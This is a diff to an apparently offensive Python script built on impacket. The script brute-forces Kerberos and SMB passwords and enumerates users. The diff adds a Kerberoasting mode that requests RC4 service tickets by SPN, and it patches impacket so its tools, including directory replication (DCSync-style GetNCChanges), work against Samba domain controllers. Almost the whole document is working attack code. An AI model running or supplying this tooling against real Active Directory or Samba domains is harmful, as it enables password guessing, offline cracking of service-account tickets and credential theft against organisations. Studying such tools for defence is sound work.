@@ -5,30 +5,30 @@
     attack.py brute-kerberos KDC REALM USER PASSWORD...     one account, many passwords (TCP)
     attack.py brute-smb SERVER DOMAIN USER PASSWORD...      the same by SMB and NTLM
     attack.py enumerate KDC REALM USER...                   AS-REQ without pre-authentication (UDP)
+    attack.py roast KDC REALM USER PASSWORD SPN...          a TGT by RC4, then RC4 service tickets (TCP)
     attack.py tool FILE ARGUMENT...                         one of impacket's own tools, with three repairs
 
 One line per try: the name and the server's answer.
 
-impacket leaves out three things that Windows does without and Samba does not: the checksum over the request in a
-TGS-REQ's authenticator (RFC 4120 5.5.1), that of the GSS-API context when it binds to LDAP by Kerberos (RFC 4121
-4.1.1), and the schema information that ends the prefix table of GetNCChanges (MS-DRSR 5.16.4). `tool` adds them, as
-a Windows client does; all else on the wire is the tool's own.
+Three things in impacket a Windows server lets pass and Samba does not: a TGS-REQ's authenticator without a checksum
+over the request (RFC 4120 5.5.1), a prefix table without schema information in GetNCChanges (MS-DRSR 5.16.4), and an
+ALTER_CONTEXT that carries its presentation context twice. `tool` and `roast` put them right, as a Windows client has
+them; all else on the wire is the tool's own.
 """
 import datetime
 import random
 import runpy
 import socket
-import struct
 import sys
 import time
 
 from impacket.dcerpc.v5 import drsuapi, rpcrt
 from impacket.krb5 import constants, crypto, kerberosv5
-from impacket.krb5.asn1 import (AP_REQ, AS_REQ, Authenticator, KERB_PA_PAC_REQUEST, KRB_ERROR, TGS_REQ, seq_set,
-                                seq_set_iter)
+from impacket.krb5.asn1 import (AP_REQ, AS_REQ, Authenticator, KERB_PA_PAC_REQUEST, KRB_ERROR, TGS_REP, TGS_REQ,
+                                seq_set, seq_set_iter)
 from impacket.krb5.kerberosv5 import KerberosError, getKerberosTGT
 from impacket.krb5.types import KerberosTime, Principal
-from impacket.ldap import ldap
+from impacket.ntlm import compute_lmhash, compute_nthash
 from impacket.smbconnection import SessionError, SMBConnection
 from pyasn1.codec.der import decoder, encoder
 from pyasn1.type.univ import noValue
@@ -94,6 +94,20 @@ def ask_name(kdc, realm, user):
     return constants.ErrorCodes(int(error["error-code"])).name
 
 
+def roast(kdc, realm, user, password, spns):
+    """What GetUserSPNs -request does, but by service principal name: Samba finds no account by its -128 names."""
+    client = Principal(user, type=constants.PrincipalNameType.NT_PRINCIPAL.value)
+    tgt, cipher, _, key = kerberosv5.getKerberosTGT(client, "", realm, compute_lmhash(password),
+                                                    compute_nthash(password), kdcHost=kdc)
+    for spn in spns:
+        name = Principal(spn, type=constants.PrincipalNameType.NT_SRV_INST.value)
+        try:
+            tgs = kerberosv5.getKerberosTGS(name, realm, kdc, tgt, cipher, key)[0]
+            report(spn, "ticket, etype %d" % decoder.decode(tgs, asn1Spec=TGS_REP())[0]["ticket"]["enc-part"]["etype"])
+        except KerberosError as error:
+            report(spn, error.getErrorString()[0])
+
+
 CHECKSUM_TYPES = {17: 15, 18: 16, 23: -138}
 TGS_REQ_TAG, CHECKSUM_USAGE, AUTHENTICATOR_USAGE = 0x6C, 6, 7
 
@@ -146,33 +160,31 @@ def repair_replication():
     rpcrt.DCERPC_v5.request = repaired_send
 
 
-class BindingEncoder:
-    """pyasn1's encoder, but an authenticator gets the checksum of a GSS-API context (RFC 4121 4.1.1) first."""
+def repair_bind():
+    get_data = rpcrt.MSRPCBind.getData
 
-    @staticmethod
-    def encode(value, *rest, **options):
-        if isinstance(value, Authenticator):
-            value["cksum"] = noValue
-            value["cksum"]["cksumtype"] = 0x8003
-            value["cksum"]["checksum"] = struct.pack("<L16xL", 16, 0)
-        return encoder.encode(value, *rest, **options)
+    def repaired_get_data(self):
+        self["ctx_items"] = b""
+        return get_data(self)
 
-
-def repair_directory():
-    ldap.encoder = BindingEncoder
+    rpcrt.MSRPCBind.getData = repaired_get_data
 
 
 def main():
     if sys.argv[1:2] == ["tool"] and len(sys.argv) > 2:
         repair_tickets()
         repair_replication()
-        repair_directory()
+        repair_bind()
         sys.argv = sys.argv[2:]
         runpy.run_path(sys.argv[0], run_name="__main__")
         return
     if len(sys.argv) < 5:
         sys.exit(__doc__.strip())
     attack, server, realm, *rest = sys.argv[1:]
+    if attack == "roast":
+        repair_tickets()
+        roast(server, realm, rest[0], rest[1], rest[2:])
+        return
     if attack == "enumerate":
         for user in rest:
             report(user, ask_name(server, realm, user))
